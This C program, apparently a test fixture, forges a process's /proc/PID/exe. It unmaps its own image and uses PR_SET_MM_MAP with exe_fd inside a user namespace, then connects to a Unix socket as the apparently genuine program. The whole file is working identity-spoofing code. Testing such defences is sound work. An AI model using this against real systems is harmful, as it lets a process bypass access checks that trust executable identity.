// SPDX-License-Identifier: Apache-2.0
/*
 * Forgery without a race: the process unmaps its own image and has the kernel name another file as its executable
 * (PR_SET_MM_MAP with exe_fd), which a child in a user namespace of its own may do for the memory they share. After
 * that /proc/PID/exe is the genuine program, start time and layout are untouched. Build with -static.
 *   forged-image GENUINE
 * Commands on stdin: `connect PATH` and `forge`, in either order.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

struct text {
  int length;
  char bytes[64];
};

/* What is needed after the image is gone, in memory of its own. */
struct plan {
  unsigned long image, image_length;
  struct prctl_mm_map map;
  struct sockaddr_un address;
  struct text forged, connected;
  char line[256];
};

#define INLINE static inline __attribute__((always_inline))

INLINE long call5(long number, long a, long b, long c, long d, long e) {
  long result;
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
                   : "rcx", "r11", "memory");
  return result;
}

INLINE void connect_to(struct plan *plan, const char *path) {
  plan->address.sun_family = AF_UNIX;
  int at = 0;
  for (; path[at] != 0 && path[at] != '\n' && at < 107; at += 1) plan->address.sun_path[at] = path[at];
  plan->address.sun_path[at] = 0;
  long fd = call5(SYS_socket, AF_UNIX, SOCK_STREAM, 0, 0, 0);
  if (call5(SYS_connect, fd, (long)&plan->address, sizeof plan->address, 0, 0) != 0) call5(SYS_exit_group, 8, 0, 0, 0, 0);
  call5(SYS_write, 1, (long)plan->connected.bytes, plan->connected.length, 0, 0);
}

/* Calls nothing and uses nothing outside the plan and its own stack. */
__attribute__((section("detached"), noinline, used, optimize("no-stack-protector"))) static void forge(
    struct plan *plan) {
  call5(SYS_munmap, plan->image, plan->image_length, 0, 0, 0);
  long child = call5(SYS_clone, CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (child == 0) {
    long set = call5(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&plan->map, sizeof plan->map, 0);
    call5(SYS_exit, set == 0 ? 0 : 7, 0, 0, 0, 0);
  }
  int status = -1;
  call5(SYS_wait4, child, (long)&status, 0, 0, 0);
  if (child <= 0 || status != 0) call5(SYS_exit_group, 7, 0, 0, 0, 0);
  call5(SYS_write, 1, (long)plan->forged.bytes, plan->forged.length, 0, 0);
  while (call5(SYS_read, 0, (long)plan->line, sizeof plan->line, 0, 0) > 0)
    if (plan->line[0] == 'c') connect_to(plan, plan->line + 8);
  call5(SYS_exit_group, 0, 0, 0, 0, 0);
}

extern char __executable_start, _end, __start_detached, __stop_detached;

/* The layout as it is, fields 26-28 and 45-51 of /proc/self/stat (proc(5)), so that only the executable changes. */
static void read_layout(struct prctl_mm_map *map) {
  static char text[4096];
  unsigned long field[64] = {0};
  FILE *file = fopen("/proc/self/stat", "r");
  if (!file || !fgets(text, sizeof text, file)) exit(3);
  fclose(file);
  int number = 3;
  for (char *word = strtok(strrchr(text, ')') + 2, " "); word && number < 64; word = strtok(NULL, " "))
    field[number++] = strtoul(word, NULL, 10);
  map->start_code = field[26];
  map->end_code = field[27];
  map->start_stack = field[28];
  map->start_data = field[45];
  map->end_data = field[46];
  map->start_brk = field[47];
  map->arg_start = field[48];
  map->arg_end = field[49];
  map->env_start = field[50];
  map->env_end = field[51];
  map->brk = (unsigned long)sbrk(0);
}

static struct text event(const char *name) {
  struct text text;
  text.length = snprintf(text.bytes, sizeof text.bytes, "{\"event\":\"%s\",\"pid\":%d}\n", name, getpid());
  return text;
}

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  char *memory = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  struct plan *plan = (struct plan *)(memory + (1 << 15));
  plan->image = (unsigned long)&__executable_start & ~4095ul;
  plan->image_length = (((unsigned long)&_end + 4095) & ~4095ul) - plan->image;
  plan->forged = event("forged");
  plan->connected = event("connected");
  struct text ready = event("ready");
  if (write(1, ready.bytes, ready.length) < 0) return 3;
  while (read(0, plan->line, sizeof plan->line) > 0) {
    if (plan->line[0] == 'c') connect_to(plan, plan->line + 8);
    if (plan->line[0] != 'f') continue;
    plan->map.exe_fd = open(argv[1], O_RDONLY);
    if ((int)plan->map.exe_fd < 0) return 4;
    read_layout(&plan->map);
    memcpy(memory, &__start_detached, &__stop_detached - &__start_detached);
    ((void (*)(struct plan *))memory)(plan);
  }
  return 0;
}
